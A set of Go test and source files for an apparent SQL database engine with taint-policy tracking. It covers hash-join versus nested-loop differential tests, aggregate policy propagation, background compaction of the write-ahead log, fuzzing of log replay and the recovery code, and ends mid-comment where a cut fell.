		"SELECT title FROM papers JOIN reviews ON papers.id = papers.score",
		"SELECT SUM(title) FROM papers",
		"SELECT * FROM papers GROUP BY title",
		"SELECT title, COUNT(*) FROM papers GROUP BY score",
		"SELECT COUNT(*) FROM papers ORDER BY title",
		"SELECT banana FROM papers JOIN reviews ON id = paper",
		"SELECT title FROM papers JOIN papers ON id = id",
	} {
		diffPlanned(t, db, q)
	}
}

// TestJoinDifferentialUnderChurn is the MVCC extension: ONE database
// churns under concurrent writers while the main loop pins a snapshot
// and runs each random join/aggregate query twice against that same
// snapshot — once planned (hash join), once ForceLoop+ForceScan. The
// engine-level results must be deeply equal (Star projects the shadow
// policy columns too), which proves the hash build sees exactly the
// version frontier the nested loop scans, even mid-churn.
func TestJoinDifferentialUnderChurn(t *testing.T) {
	rng := rand.New(rand.NewSource(20090211))
	db := openDB(t)
	db.MustExec("CREATE TABLE papers (id INT, title TEXT, score INT)")
	db.MustExec("CREATE TABLE reviews (paper INT, reviewer TEXT, score INT)")
	db.MustExec("CREATE INDEX ON papers (id)")
	db.MustExec("CREATE INDEX ON reviews (paper)")
	taint := func(s string) core.String {
		return core.NewStringPolicy(s, &sanitize.UntrustedData{Source: "join-churn"})
	}
	words := []string{"ant", "antler", "bee", "beetle", "cat", "zz", ""}
	for i := 0; i < 20; i++ {
		if _, err := db.QueryRaw("INSERT INTO papers (id, title, score) VALUES (?, ?, ?)",
			i%12, taint(words[i%len(words)]), i%5); err != nil {
			t.Fatal(err)
		}
		if _, err := db.QueryRaw("INSERT INTO reviews (paper, reviewer, score) VALUES (?, ?, ?)",
			i%15, taint(words[(i+2)%len(words)]), i%7); err != nil {
			t.Fatal(err)
		}
	}

	stop := make(chan struct{})
	var wg sync.WaitGroup
	for wi := 0; wi < 2; wi++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			wrng := rand.New(rand.NewSource(seed))
			for {
				select {
				case <-stop:
					return
				default:
				}
				var err error
				switch wrng.Intn(4) {
				case 0:
					_, err = db.QueryRaw("INSERT INTO papers (id, title, score) VALUES (?, ?, ?)",
						wrng.Intn(15), taint(words[wrng.Intn(len(words))]), wrng.Intn(5))
				case 1:
					_, err = db.QueryRaw("INSERT INTO reviews (paper, reviewer, score) VALUES (?, ?, ?)",
						wrng.Intn(15), taint(words[wrng.Intn(len(words))]), wrng.Intn(7))
				case 2:
					_, err = db.QueryRaw("UPDATE reviews SET paper = ?, reviewer = ? WHERE paper = ?",
						wrng.Intn(15), taint(words[wrng.Intn(len(words))]), wrng.Intn(15))
				case 3:
					_, err = db.QueryRaw("DELETE FROM papers WHERE id = ? AND score = ?",
						wrng.Intn(15), wrng.Intn(5))
				}
				if err != nil {
					t.Errorf("churn writer: %v", err)
					return
				}
			}
		}(rng.Int63())
	}

	w := &joinWorkload{t: t, db: db, rng: rng}
	iters := 400
	if testing.Short() {
		iters = 60
	}
	e := db.Engine()
	for i := 0; i < iters; i++ {
		qtext := w.randJoinSelect()
		stmt, err := Parse(core.NewString(qtext))
		if err != nil {
			t.Fatalf("%s: parse: %v", qtext, err)
		}
		sel := stmt.(*Select)

		// Pin one snapshot under the read lock (so vacuum keeps its
		// versions), then run both executors against it lock-free while
		// the writers keep moving the frontier.
		e.mu.RLock()
		snap := e.acquireSnap()
		e.mu.RUnlock()
		planned, perr := e.selectAt(nil, sel, &snap)
		forced := *sel
		forced.ForceLoop, forced.ForceScan = true, true
		oracle, oerr := e.selectAt(nil, &forced, &snap)
		e.releaseSnap(snap)

		if (perr == nil) != (oerr == nil) {
			t.Fatalf("%s: planned err=%v, oracle err=%v", qtext, perr, oerr)
		}
		if perr != nil {
			if perr.Error() != oerr.Error() {
				t.Fatalf("%s: error text differs:\n  planned %v\n  oracle  %v", qtext, perr, oerr)
			}
			continue
		}
		if !reflect.DeepEqual(planned, oracle) {
			t.Fatalf("%s @ snap %d: hash join diverged from nested loop over the same snapshot\nplanned: %+v\noracle:  %+v",
				qtext, snap, planned, oracle)
		}
	}
	close(stop)
	wg.Wait()
}

// TestJoinAmbiguousColumnNamesBothTables pins the diagnostic contract
// for unqualified references that match both join inputs: the error is
// ErrNoColumn and its text names both candidate columns, qualified.
func TestJoinAmbiguousColumnNamesBothTables(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE papers (id INT, title TEXT)")
	db.MustExec("CREATE TABLE drafts (id INT, title TEXT)")
	db.MustExec("INSERT INTO papers (id, title) VALUES (1, 'a')")
	db.MustExec("INSERT INTO drafts (id, title) VALUES (1, 'b')")

	_, err := db.QueryRaw("SELECT title FROM papers JOIN drafts ON papers.id = drafts.id")
	if !errors.Is(err, ErrNoColumn) {
		t.Fatalf("ambiguous column: got %v, want ErrNoColumn", err)
	}
	for _, want := range []string{"ambiguous", "papers.title", "drafts.title"} {
		if !strings.Contains(err.Error(), want) {
			t.Fatalf("ambiguous-column error %q does not mention %q", err, want)
		}
	}

	// Qualifying either side resolves it.
	for _, q := range []string{
		"SELECT papers.title FROM papers JOIN drafts ON papers.id = drafts.id",
		"SELECT drafts.title FROM papers JOIN drafts ON papers.id = drafts.id",
	} {
		if _, err := db.QueryRaw(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}

	// The same unqualified name with only one candidate stays legal.
	if _, err := db.QueryRaw("SELECT id, title FROM papers"); err != nil {
		t.Fatalf("single-table unqualified: %v", err)
	}
}

// TestChooseBuildSide pins the hash join's cardinality cost hook: INNER
// joins hash the smaller input (the build map is the join's only O(n)
// memory), LEFT joins always hash the right input because every left
// row must be enumerated to emit unmatched padding.
func TestChooseBuildSide(t *testing.T) {
	cases := []struct {
		left, right int
		joinType    string
		buildLeft   bool
	}{
		{5, 1000, "INNER", true},
		{1000, 5, "INNER", false},
		{10, 10, "INNER", false}, // ties build right: probe order is emit order
		{0, 10, "INNER", true},
		{5, 1000, "LEFT", false},
		{1000, 5, "LEFT", false},
		{0, 0, "LEFT", false},
	}
	for _, c := range cases {
		if got := chooseBuildSide(c.left, c.right, c.joinType); got != c.buildLeft {
			t.Errorf("chooseBuildSide(%d, %d, %s) = %v, want %v",
				c.left, c.right, c.joinType, got, c.buildLeft)
		}
	}
}

// TestLimitShortCircuit pins the LIMIT fast path: when candidates
// arrive already in output order (an ordered-index traversal, or no
// ORDER BY at all), the row loop stops at the LIMIT instead of
// materializing every match — observable through LimitStopCount.
func TestLimitShortCircuit(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE w (id INT, name TEXT)")
	db.MustExec("CREATE INDEX ON w (id)")
	for i := 0; i < 200; i++ {
		if _, err := db.QueryRaw("INSERT INTO w (id, name) VALUES (?, ?)",
			i, fmt.Sprintf("n%03d", i)); err != nil {
			t.Fatal(err)
		}
	}
	stops := func(q string, wantRows int) uint64 {
		t.Helper()
		before := LimitStopCount()
		res, err := db.QueryRaw(q)
		if err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		if res.Len() != wantRows {
			t.Fatalf("%s: %d rows, want %d", q, res.Len(), wantRows)
		}
		return LimitStopCount() - before
	}

	// Ordered-index traversal: stops after 5 of 200 candidates.
	if n := stops("SELECT id, name FROM w ORDER BY id LIMIT 5", 5); n == 0 {
		t.Fatal("ordered-index LIMIT did not short-circuit")
	}
	// Descending traversal short-circuits too.
	if n := stops("SELECT id FROM w ORDER BY id DESC LIMIT 3", 3); n == 0 {
		t.Fatal("descending ordered-index LIMIT did not short-circuit")
	}
	// No ORDER BY: scan order is output order, so LIMIT can stop a scan.
	if n := stops("SELECT id FROM w LIMIT 4", 4); n == 0 {
		t.Fatal("unordered LIMIT did not short-circuit")
	}
	// ORDER BY without a usable index must NOT stop early — every match
	// is needed before the sort.
	if n := stops("SELECT id, name FROM w ORDER BY name LIMIT 5", 5); n != 0 {
		t.Fatal("LIMIT short-circuited before an explicit sort")
	}
	// A LIMIT larger than the match count never triggers the counter.
	if n := stops("SELECT id FROM w ORDER BY id LIMIT 100000", 200); n != 0 {
		t.Fatal("LIMIT larger than result set bumped the stop counter")
	}
	// And the short-circuited rows are the same rows the oracle returns.
	diffPlanned(t, db, "SELECT id, name FROM w ORDER BY id LIMIT 5")
	diffPlanned(t, db, "SELECT id, name FROM w ORDER BY id DESC LIMIT 3")
}

// TestAggregatePolicyUnion pins the propagation rules of docs/SQL.md §10
// on hand-built groups: an aggregate output cell carries the interned
// union of ALL its non-NULL input cells' policies (MIN/MAX included —
// the chosen value reveals information about every compared value),
// COUNT(*) carries none, NULL inputs are skipped, and empty groups
// yield NULL (or 0 for COUNT) with no policies.
func TestAggregatePolicyUnion(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE r (g TEXT, v INT, s TEXT)")
	polA := &sanitize.UntrustedData{Source: "srcA"}
	polB := &sanitize.UntrustedData{Source: "srcB"}
	ins := func(g any, v any, s any) {
		t.Helper()
		if _, err := db.QueryRaw("INSERT INTO r (g, v, s) VALUES (?, ?, ?)", g, v, s); err != nil {
			t.Fatal(err)
		}
	}
	ins("x", core.NewInt(1).WithPolicy(polA), core.NewStringPolicy("aa", polA))
	ins("x", core.NewInt(2).WithPolicy(polB), "bb") // untainted s
	ins("y", 7, "cc")                               // fully untainted group
	ins("z", nil, nil)                              // group of NULLs
	ins(core.NewStringPolicy("w", polA), 4, "dd")   // tainted group key

	res, err := db.QueryRaw(
		"SELECT g, COUNT(*), COUNT(v), SUM(v), MIN(v), MAX(s) FROM r GROUP BY g ORDER BY g")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 4 {
		t.Fatalf("%d groups, want 4", res.Len())
	}
	sources := func(c Cell) map[string]bool {
		var ps *core.PolicySet
		if c.IsInt {
			ps = c.Int.Policies()
		} else {
			ps = c.Str.Policies()
		}
		out := map[string]bool{}
		for _, p := range ps.Policies() {
			if u, ok := p.(*sanitize.UntrustedData); ok {
				out[u.Source] = true
			}
		}
		return out
	}
	row := func(g string) int {
		for i := 0; i < res.Len(); i++ {
			if res.Get(i, "g").Text().Raw() == g {
				return i
			}
		}
		t.Fatalf("no group %q", g)
		return -1
	}

	// Group x: inputs tainted srcA and srcB.
	x := row("x")
	if got := res.Get(x, "COUNT(*)"); got.Int.Value() != 2 || got.Int.IsTainted() {
		t.Fatalf("x COUNT(*) = %d tainted=%v, want 2 untainted", got.Int.Value(), got.Int.IsTainted())
	}
	for _, col := range []string{"COUNT(v)", "SUM(v)", "MIN(v)"} {
		got := sources(res.Get(x, col))
		if !got["srcA"] || !got["srcB"] || len(got) != 2 {
			t.Fatalf("x %s carries %v, want union {srcA, srcB}", col, got)
		}
	}
	if got := res.Get(x, "SUM(v)"); got.Int.Value() != 3 {
		t.Fatalf("x SUM(v) = %d, want 3", got.Int.Value())
	}
	// MAX(s) picks untainted "bb" but carries srcA: the comparison that
	// rejected "aa" leaked information about it.
	if got := res.Get(x, "MAX(s)"); got.Str.Raw() != "bb" || !sources(got)["srcA"] {
		t.Fatalf("x MAX(s) = %q sources=%v, want \"bb\" carrying srcA", got.Str.Raw(), sources(got))
	}

	// Group y: untainted inputs stay untainted.
	y := row("y")
	if got := res.Get(y, "SUM(v)"); got.Int.Value() != 7 || got.Int.IsTainted() {
		t.Fatalf("y SUM(v) = %d tainted=%v, want 7 untainted", got.Int.Value(), got.Int.IsTainted())
	}

	// Group z: NULL inputs are skipped; empty aggregates are NULL, COUNT 0.
	z := row("z")
	if got := res.Get(z, "COUNT(v)"); got.Int.Value() != 0 {
		t.Fatalf("z COUNT(v) = %d, want 0", got.Int.Value())
	}
	for _, col := range []string{"SUM(v)", "MIN(v)", "MAX(s)"} {
		if got := res.Get(z, col); !got.Null {
			t.Fatalf("z %s = %q, want NULL", col, got.Text().Raw())
		}
	}

	// Group w: the group-key output cell carries its input's policies.
	wr := row("w")
	if got := sources(res.Get(wr, "g")); !got["srcA"] {
		t.Fatalf("w group key carries %v, want srcA", got)
	}

	// Whole-input aggregate over an empty match set: one row, NULLs.
	res, err = db.QueryRaw("SELECT COUNT(*), SUM(v), MIN(s) FROM r WHERE g = 'missing'")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("empty aggregate: %d rows, want 1", res.Len())
	}
	if got := res.Get(0, "COUNT(*)"); got.Int.Value() != 0 {
		t.Fatalf("empty COUNT(*) = %d, want 0", got.Int.Value())
	}
	if !res.Get(0, "SUM(v)").Null || !res.Get(0, "MIN(s)").Null {
		t.Fatal("empty SUM/MIN not NULL")
	}
}

// TestJoinPolicyPerCell pins the join row rule: each output cell keeps
// its own source cell's policy spans — joining does not smear taint
// across columns — and LEFT JOIN NULL padding carries no policies.
func TestJoinPolicyPerCell(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE a (id INT, ta TEXT)")
	db.MustExec("CREATE TABLE b (id INT, tb TEXT)")
	polA := &sanitize.UntrustedData{Source: "left"}
	polB := &sanitize.UntrustedData{Source: "right"}
	if _, err := db.QueryRaw("INSERT INTO a (id, ta) VALUES (?, ?)", 1, core.NewStringPolicy("la", polA)); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("INSERT INTO a (id, ta) VALUES (?, ?)", 2, core.NewStringPolicy("solo", polA)); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("INSERT INTO b (id, tb) VALUES (?, ?)", 1, core.NewStringPolicy("rb", polB)); err != nil {
		t.Fatal(err)
	}

	res, err := db.QueryRaw("SELECT a.ta, b.tb FROM a LEFT JOIN b ON a.id = b.id ORDER BY a.id")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 2 {
		t.Fatalf("%d rows, want 2", res.Len())
	}
	srcs := func(s core.String) map[string]bool {
		out := map[string]bool{}
		for _, p := range s.Policies().Policies() {
			if u, ok := p.(*sanitize.UntrustedData); ok {
				out[u.Source] = true
			}
		}
		return out
	}
	ta, tb := srcs(res.Get(0, "a.ta").Str), srcs(res.Get(0, "b.tb").Str)
	if !ta["left"] || ta["right"] {
		t.Fatalf("left cell sources = %v, want exactly {left}", ta)
	}
	if !tb["right"] || tb["left"] {
		t.Fatalf("right cell sources = %v, want exactly {right}", tb)
	}
	pad := res.Get(1, "b.tb")
	if !pad.Null {
		t.Fatal("unmatched left row not padded with NULL")
	}
	if pad.Str.IsTainted() {
		t.Fatal("LEFT JOIN NULL padding carries policies")
	}
}
