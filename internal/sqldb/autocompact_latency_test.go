package sqldb

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"resin/internal/core"
)

// TestAutoCompactTriggerWriteLatency pins that the auto-compact trigger
// never runs the full Compact inside the triggering write's critical
// section: the write that tips the log over the armed threshold only
// CASes the single-flight flag and spawns the background compaction, so
// its latency must stay far below a synchronous Compact of the same
// state. The test first grows the database until a measured synchronous
// Compact is expensive (≥20ms), then regrows the log past the
// threshold, arms the policy, and times the one write that fires it.
func TestAutoCompactTriggerWriteLatency(t *testing.T) {
	path := filepath.Join(t.TempDir(), "trigger.wal")
	rt := core.NewRuntime()
	db := openWALDB(t, rt, path)
	defer db.Close()
	// Group commit keeps the seeding fast and the normal-write baseline
	// free of per-write fsync noise.
	db.SetWALGroupCommit(64)
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")

	// Grow live state until a synchronous Compact costs real time; the
	// background claim is unfalsifiable on a database that compacts in
	// microseconds.
	pad := strings.Repeat("x", 120)
	var syncCompact time.Duration
	rows := 0
	for round := 0; ; round++ {
		var b strings.Builder
		b.WriteString("INSERT INTO t (id, val) VALUES ")
		for i := 0; i < 4000; i++ {
			if i > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "(%d, '%s-%d')", rows, pad, rows)
			rows++
		}
		db.MustExec(b.String())
		start := time.Now()
		if err := db.Compact(); err != nil {
			t.Fatal(err)
		}
		syncCompact = time.Since(start)
		if syncCompact >= 20*time.Millisecond {
			break
		}
		if round >= 7 {
			t.Skipf("synchronous Compact of %d rows takes only %v; machine too fast to pin the latency gap", rows, syncCompact)
		}
	}

	// Baseline: the median normal write.
	lat := make([]time.Duration, 0, 64)
	for i := 0; i < 64; i++ {
		start := time.Now()
		db.MustExec(fmt.Sprintf("UPDATE t SET val = 'w-%d' WHERE id = %d", i, i))
		lat = append(lat, time.Since(start))
	}
	for i := 1; i < len(lat); i++ { // insertion sort, 64 items
		for j := i; j > 0 && lat[j] < lat[j-1]; j-- {
			lat[j], lat[j-1] = lat[j-1], lat[j]
		}
	}
	median := lat[len(lat)/2]

	// Regrow the log past the threshold with the policy disarmed, then
	// arm it so exactly one write fires the trigger.
	threshold := db.WALSize() + 64<<10
	i := 0
	for db.WALSize() <= threshold {
		db.MustExec(fmt.Sprintf("UPDATE t SET val = 'churn-%d' WHERE id = %d", i, i%rows))
		i++
	}
	before := db.WALSize()
	db.SetWALAutoCompact(threshold)
	start := time.Now()
	db.MustExec("UPDATE t SET val = 'trigger' WHERE id = 0")
	triggerLatency := time.Since(start)

	// The triggering write must not have absorbed the compaction.
	if triggerLatency >= syncCompact/2 {
		t.Errorf("triggering write took %v, within 2x of a synchronous Compact (%v): compaction ran in the write's critical section (median normal write: %v)",
			triggerLatency, syncCompact, median)
	}

	// And the compaction it kicked off really runs: the log shrinks in
	// the background.
	deadline := time.Now().Add(10 * time.Second)
	for db.WALSize() >= before {
		if time.Now().After(deadline) {
			t.Fatalf("armed trigger never compacted: WAL still %d bytes (was %d)", db.WALSize(), before)
		}
		time.Sleep(2 * time.Millisecond)
	}
	db.SetWALAutoCompact(0)
	res, err := db.QueryRaw("SELECT val FROM t WHERE id = 0")
	if err != nil || res.Len() != 1 {
		t.Fatalf("post-compaction read: %d rows, %v", res.Len(), err)
	}
	if got := res.Get(0, "val").Str.Raw(); got != "trigger" {
		t.Fatalf("triggering write lost: val = %q", got)
	}
}
