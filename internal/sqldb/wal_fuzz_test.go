package sqldb

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"resin/internal/core"
)

// FuzzWALReplay feeds arbitrary bytes to recovery. The contract: never
// panic; either recovery succeeds — yielding a database rebuilt from a
// clean record prefix, with the file truncated to exactly that prefix so
// a second open reproduces the same state — or it fails with the typed
// corruption error. Nothing else.
func FuzzWALReplay(f *testing.F) {
	header := append([]byte(walMagic), walVersion)

	// Seed corpus: a real log (schema + annotated insert + tx group),
	// its torn variants, and targeted corruptions.
	seedPath := filepath.Join(f.TempDir(), "seed.wal")
	rt := core.NewRuntime()
	db, err := OpenDB(rt, seedPath)
	if err != nil {
		f.Fatal(err)
	}
	db.MustExec("CREATE TABLE t (id INT, val TEXT)")
	db.MustExec("CREATE INDEX ON t (id)")
	if _, err := db.QueryRaw("INSERT INTO t (id, val) VALUES (?, ?)", 1,
		core.NewStringPolicy("vv", &passwordPolicy{Email: "f@z"})); err != nil {
		f.Fatal(err)
	}
	tx := db.Begin()
	tx.MustExec("UPDATE t SET val = 'w' WHERE id = 1")
	if err := tx.Commit(); err != nil {
		f.Fatal(err)
	}
	db.Close()
	valid, err := os.ReadFile(seedPath)
	if err != nil {
		f.Fatal(err)
	}

	f.Add([]byte{})
	f.Add(header)
	f.Add(valid)
	f.Add(valid[:len(valid)-5])
	f.Add(valid[:len(valid)/2])
	f.Add(append([]byte("NOTAWAL!"), valid...))
	f.Add(appendRecord(append([]byte(nil), header...), []byte{'Z', 0xff}))
	f.Add(appendRecord(append([]byte(nil), header...), stmtPayload("DROP TABLE missing")))
	f.Add(appendRecord(append([]byte(nil), header...), []byte{walRecBegin}))
	mut := append([]byte(nil), valid...)
	mut[len(header)+walRecHeaderSize+3] ^= 0x20
	f.Add(mut)

	// v2 row-ops seeds. A well-formed 'R' record after its CREATE must
	// replay; 'R' payloads that frame correctly (CRC valid) but decode to
	// nonsense — truncated op list, unknown table, tombstoned ghost —
	// must surface as typed corruption, not a panic.
	withCreate := appendRecord(append([]byte(nil), header...), stmtPayload("CREATE TABLE t (id INT, val TEXT)"))
	goodOps := opsPayload([]rowOp{
		{kind: opInsert, table: "t", id: 1, vals: []value{intValue(7), textValue("x")}},
		{kind: opUpdate, table: "t", id: 1, vals: []value{intValue(8), nullValue()}},
		{kind: opDelete, table: "t", id: 1},
	})
	f.Add(appendRecord(append([]byte(nil), withCreate...), goodOps))
	f.Add(appendRecord(append([]byte(nil), withCreate...), []byte{walRecOps, 0x09})) // claims 9 ops, has none
	f.Add(appendRecord(append([]byte(nil), withCreate...),
		opsPayload([]rowOp{{kind: opUpdate, table: "ghost", id: 3, vals: []value{nullValue(), nullValue()}}})))
	f.Add(appendRecord(append([]byte(nil), withCreate...),
		opsPayload([]rowOp{{kind: opDelete, table: "t", id: 99}}))) // delete of a row never inserted
	f.Add(appendRecord(append([]byte(nil), header...), goodOps)) // row ops before any schema

	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		path := filepath.Join(dir, "fuzz.wal")
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
		db, err := OpenDB(rt, path)
		if err != nil {
			if !errors.Is(err, ErrWALCorrupt) {
				t.Fatalf("recovery error is not the typed corruption error: %v", err)
			}
			return
		}
		state := dumpEngine(db.Engine())
		if err := db.Close(); err != nil {
			t.Fatalf("close after recovery: %v", err)
		}
		// Idempotence: recovery truncated the log to a clean prefix, so a
		// second open must succeed and yield the identical state.
		db2, err := OpenDB(rt, path)
		if err != nil {
			t.Fatalf("second open after successful recovery: %v", err)
		}
		defer db2.Close()
		if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, state) {
			t.Fatalf("second recovery diverges: %+v vs %+v", got, state)
		}
	})
}
