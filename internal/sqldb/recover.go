package sqldb

import (
	"fmt"
	"io"
	"os"
	"strings"

	"resin/internal/core"
)

// Recovery: OpenDB replays the log at path into a fresh engine, then
// truncates any torn tail and attaches the log for appending. Replay is
// the same code path as live execution (Parse + Engine.ExecuteRaw on the
// already-rewritten statements), so the recovered tables, ordered indexes,
// and shadow policy columns are bit-for-bit what the statement sequence
// produces; the engine gets a fresh process-unique schema generation per
// replayed DDL, so plans cached against a previous incarnation recompile
// instead of reusing stale schema conclusions.

// OpenDB opens a database persisted in a write-ahead log at path,
// replaying the committed record prefix (see docs/SQL.md §8). An empty
// path returns an in-memory database, exactly like Open — existing
// callers and benchmarks pay nothing for the persistence layer.
func OpenDB(rt *core.Runtime, path string) (*DB, error) {
	db := Open(rt)
	if path == "" {
		return db, nil
	}
	w, err := replayWAL(path, db.engine)
	if err != nil {
		return nil, err
	}
	db.engine.attachWAL(w)
	return db, nil
}

// Close syncs and closes the write-ahead log. Later mutations fail with
// ErrDBClosed; reads keep working against the in-memory state. Closing
// an in-memory database (or closing twice) is a no-op.
func (db *DB) Close() error {
	db.txMu.Lock()
	defer db.txMu.Unlock()
	return db.engine.closeWAL()
}

// Compact rewrites the log as the minimal statement sequence that
// rebuilds the current state (snapshot + compaction, docs/SQL.md §8), so
// replay cost is bounded by live data instead of history length.
func (db *DB) Compact() error {
	return db.Engine().compactWAL()
}

// WALSize reports the log's current byte length (0 for an in-memory
// database). Tests and operators use it to decide when to Compact.
func (db *DB) WALSize() int64 {
	e := db.Engine()
	e.mu.RLock()
	defer e.mu.RUnlock()
	if e.wal == nil {
		return 0
	}
	return e.wal.size
}

// SetWALGroupCommit sets the group-commit knob: n <= 1 (the default)
// fsyncs after every mutation before it is acknowledged; n > 1 batches
// up to n mutations per fsync, trading the durability of the last
// unsynced batch on an OS crash for append throughput
// (BenchmarkSQLWALAppend measures the spread). Process-crash safety is
// unaffected: records reach the file per append, only the fsync is
// deferred.
func (db *DB) SetWALGroupCommit(n int) {
	e := db.Engine()
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal != nil {
		e.wal.groupEvery = n
	}
}

// SyncWAL forces pending group-commit appends to stable storage.
func (db *DB) SyncWAL() error {
	e := db.Engine()
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return nil
	}
	return e.wal.syncNow()
}

func (e *Engine) attachWAL(w *wal) {
	e.mu.Lock()
	e.wal = w
	e.mu.Unlock()
}

func (e *Engine) closeWAL() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.wal == nil {
		return nil
	}
	return e.wal.close()
}

// replayWAL opens (creating if absent) the log at path, applies its
// committed prefix to engine, truncates any torn tail, and returns the
// log positioned for appending.
func replayWAL(path string, engine *Engine) (*wal, error) {
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE, 0o644)
	if err != nil {
		return nil, err
	}
	// Single writer: two handles replaying and then appending to the
	// same log at independent offsets would interleave frames and
	// corrupt it. The lock is advisory, per-file, and released by
	// wal.close (or process exit).
	if err := lockWALFile(f); err != nil {
		f.Close()
		return nil, fmt.Errorf("%w: %s", ErrWALBusy, path)
	}
	data, err := io.ReadAll(f)
	if err != nil {
		f.Close()
		return nil, err
	}

	corrupt := func(off int64, reason string, underlying error) (*wal, error) {
		f.Close()
		return nil, &WALCorruptionError{Path: path, Offset: off, Reason: reason, Err: underlying}
	}

	if len(data) < walHeaderSize {
		// Shorter than a header: a crash while creating the file leaves a
		// prefix of the header (torn — start the log over); anything else
		// is not a RESIN WAL.
		if !strings.HasPrefix(walMagic+string(rune(walVersion)), string(data)) && len(data) > 0 {
			return corrupt(0, "not a RESIN WAL (bad magic)", nil)
		}
		return resetWAL(path, f)
	}
	if string(data[:len(walMagic)]) != walMagic {
		return corrupt(0, "not a RESIN WAL (bad magic)", nil)
	}
	if data[len(walMagic)] != walVersion {
		return corrupt(int64(len(walMagic)), fmt.Sprintf("unsupported WAL version %d (want %d)", data[len(walMagic)], walVersion), nil)
	}

	// goodEnd is the offset after the last *applied* record: a standalone
	// statement, or a transaction's commit marker. Statements inside
	// B..C buffer until the commit marker applies them, so a group whose
	// commit never hit the disk is dropped with the torn tail.
	goodEnd := int64(walHeaderSize)
	off := walHeaderSize
	inTx := false
	var group []string
	for off < len(data) {
		payload, end, ok := walNextRecord(data, off)
		if !ok {
			break // torn tail: partial/zeroed framing or bad checksum
		}
		recStart := int64(off)
		off = end
		switch payload[0] {
		case walRecStmt:
			text := string(payload[1:])
			if inTx {
				group = append(group, text)
				continue
			}
			if err := applyWALStmt(engine, text); err != nil {
				return corrupt(recStart, "statement replay failed", err)
			}
			goodEnd = int64(off)
		case walRecBegin:
			if len(payload) != 1 {
				return corrupt(recStart, "begin marker with payload", nil)
			}
			if inTx {
				return corrupt(recStart, "nested transaction begin marker", nil)
			}
			inTx, group = true, nil
		case walRecCommit:
			if len(payload) != 1 {
				return corrupt(recStart, "commit marker with payload", nil)
			}
			if !inTx {
				return corrupt(recStart, "commit marker without begin", nil)
			}
			for _, text := range group {
				if err := applyWALStmt(engine, text); err != nil {
					return corrupt(recStart, "transaction replay failed", err)
				}
			}
			inTx, group = false, nil
			goodEnd = int64(off)
		default:
			return corrupt(recStart, fmt.Sprintf("unknown record type 0x%02x", payload[0]), nil)
		}
	}

	if goodEnd < int64(len(data)) {
		if err := f.Truncate(goodEnd); err != nil {
			f.Close()
			return nil, fmt.Errorf("sqldb: truncate torn WAL tail: %w", err)
		}
		if err := f.Sync(); err != nil {
			f.Close()
			return nil, fmt.Errorf("sqldb: sync truncated WAL: %w", err)
		}
	}
	if _, err := f.Seek(goodEnd, 0); err != nil {
		f.Close()
		return nil, err
	}
	return &wal{path: path, f: f, size: goodEnd}, nil
}

// resetWAL starts the log over with a fresh header (new file, or a file
// torn inside the header before any record existed).
func resetWAL(path string, f *os.File) (*wal, error) {
	if err := f.Truncate(0); err != nil {
		f.Close()
		return nil, err
	}
	hdr := append([]byte(walMagic), walVersion)
	if _, err := f.WriteAt(hdr, 0); err != nil {
		f.Close()
		return nil, err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return nil, err
	}
	if _, err := f.Seek(int64(len(hdr)), 0); err != nil {
		f.Close()
		return nil, err
	}
	return &wal{path: path, f: f, size: int64(len(hdr))}, nil
}

// applyWALStmt replays one logged statement. Logged statements are the
// rewritten forms the engine executed, so replay parses and executes
// them raw — no filter pass, no second policy-column rewrite.
func applyWALStmt(engine *Engine, text string) error {
	stmt, err := Parse(core.NewString(text))
	if err != nil {
		return err
	}
	if _, ok := stmt.(*Select); ok {
		return fmt.Errorf("sqldb: non-mutating statement in WAL: %s", text)
	}
	if _, _, err := engine.ExecuteRaw(stmt); err != nil {
		return err
	}
	return nil
}
