package sqldb

import (
	"fmt"
	"io"
	"os"
	"strings"

	"resin/internal/core"
)

// Recovery: OpenDB replays the log at path into a fresh engine, then
// truncates any torn tail and attaches the log for appending. DDL
// records replay through the live execution path (Parse +
// Engine.ExecuteRaw); row-ops records are semantically validated
// (Engine.checkOps) and applied with their logged stable ids, so the
// recovered entries, scan order, ordered-index buckets, and shadow
// policy columns are bit-for-bit what the live engine held. The engine
// gets a fresh process-unique schema generation per replayed DDL, so
// plans cached against a previous incarnation recompile instead of
// reusing stale schema conclusions.

// OpenDB opens a database persisted in a write-ahead log at path,
// replaying the committed record prefix (see docs/SQL.md §8). An empty
// path returns an in-memory database, exactly like Open — existing
// callers and benchmarks pay nothing for the persistence layer. A
// legacy v1 (statement-format) log replays compatibly and is rewritten
// in place as v2 before the open returns, so later appends never mix
// formats.
func OpenDB(rt *core.Runtime, path string) (*DB, error) {
	db := Open(rt)
	if path == "" {
		return db, nil
	}
	w, legacy, err := replayWAL(path, db.engine)
	if err != nil {
		return nil, err
	}
	db.engine.attachWAL(w)
	if legacy {
		if err := db.Compact(); err != nil {
			db.engine.closeWAL() //nolint:errcheck
			return nil, fmt.Errorf("sqldb: upgrade v1 WAL: %w", err)
		}
	}
	return db, nil
}

// SetWALAutoCompact arms background compaction: once the log exceeds
// bytes, the next mutation kicks off an asynchronous Compact (one at a
// time; failures leave the old, still-valid log). bytes <= 0 disables
